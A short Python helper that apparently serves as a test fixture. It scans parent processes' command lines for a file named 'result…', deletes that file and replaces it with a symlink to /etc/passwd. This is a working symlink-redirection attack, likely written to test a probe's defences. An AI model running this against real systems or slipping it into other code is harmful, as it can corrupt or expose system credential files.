"""Puts a link to another file where the result belongs."""

import os
from pathlib import Path

SECRET = "/etc/passwd"


def _parent(process):
    """Return the process id of a process's parent."""
    status = Path("/proc", str(process), "stat").read_text()
    return int(status.rpartition(")")[2].split()[1])


def register():
    """Find the result's place in the command line of the probe, and link it out."""
    process = os.getpid()
    for _ in range(4):
        try:
            arguments = Path("/proc", str(process), "cmdline").read_bytes().split(b"\0")
            process = _parent(process)
        except OSError:
            return
        for argument in arguments:
            path = Path(os.fsdecode(argument))
            if path.name.startswith("result"):
                try:
                    path.unlink(missing_ok=True)
                    path.symlink_to(SECRET)
                except OSError:
                    continue
